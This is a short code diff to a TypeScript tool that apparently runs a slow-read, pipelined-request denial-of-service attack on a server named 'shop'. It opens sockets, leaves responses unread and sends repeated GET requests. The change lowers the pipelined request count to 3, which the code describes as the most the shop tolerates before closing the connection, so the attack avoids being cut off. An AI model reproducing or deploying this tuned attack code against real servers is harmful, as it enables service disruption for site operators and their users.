@@ -5,6 +5,9 @@ import { open } from '../caller.ts';
 
 const request = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;
 
+/** As many as the shop takes on one connection without closing it: one in progress and two waiting. */
+const MOST_PIPELINED = 3;
+
 /** Resolves when the connection or the attack has ended. */
 function over(socket: Socket, signal: AbortSignal): Promise<void> {
   return new Promise((resolve) => {
@@ -105,7 +108,7 @@ async function sip(url: string, address: string, path: string, signal: AbortSign
     taken += data.length;
     socket.pause();
   });
-  socket.write(request(path).repeat(8));
+  socket.write(request(path).repeat(MOST_PIPELINED));
   const ended = over(socket, signal);
   while (!signal.aborted && !socket.destroyed) {
     await Promise.race([pause(1_000), ended]);
@@ -141,7 +144,7 @@ async function leaveUnread(
 ): Promise<void> {
   const socket = await open(url, address);
   socket.pause();
-  socket.write(request(BIG[loop % BIG.length] as string).repeat(8));
+  socket.write(request(BIG[loop % BIG.length] as string).repeat(MOST_PIPELINED));
   tally.add('opened');
   await Promise.race([over(socket, signal), pause(3_000)]);
   if (socket.destroyed) tally.add('cut by the shop');
